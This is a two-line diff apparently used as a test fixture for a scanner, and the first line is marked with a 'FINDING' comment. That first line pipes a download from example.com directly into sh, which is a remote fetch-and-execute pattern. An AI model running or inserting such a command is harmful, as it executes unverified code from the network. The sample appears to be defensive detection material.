@@ -1,0 +1,2 @@
+curl http://example.com/x | sh echo hello # FINDING
+echo done
